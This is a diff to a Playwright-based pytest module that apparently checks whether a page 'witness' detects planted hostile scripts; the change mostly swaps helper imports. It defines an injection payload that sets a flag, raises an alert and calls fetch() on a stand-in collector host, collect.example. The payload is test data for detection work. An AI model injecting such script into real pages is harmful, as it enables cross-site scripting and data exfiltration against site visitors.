@@ -19,19 +19,13 @@ from html import escape
 from typing import TYPE_CHECKING, Any
 
 import pytest
-import test_web
 from hostile import FACT, HOSTILE, Hostile
-from test_web import Served, Visitor
+from visiting import Served, Visitor, wait_until
 
 if TYPE_CHECKING:
     from playwright.sync_api import Browser, BrowserContext, Dialog, Page
 
-browser, served = test_web.browser, test_web.served
-
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.filterwarnings("ignore:.*(no_silent_downcasting|The copy keyword is deprecated)"),
-]
+pytestmark = pytest.mark.browser
 
 EVIL = "https://collect.example"
 DO = f"window.pwned=1;alert(1);fetch('{EVIL}/f')"
@@ -485,7 +479,7 @@ def test_the_witness_sees_what_is_planted(witness: Witness, kind: str, script: s
     assert set(witness.counts().values()) == {0}, witness.happened
     witness.doing = "planting"
     witness.page.evaluate(f"() => {{ {script} }}")
-    test_web.wait_until(lambda: has_seen(witness, kind))
+    wait_until(lambda: has_seen(witness, kind))
     assert (kind, "planting") in {(seen, doing) for seen, _, doing in witness.happened}
 
 
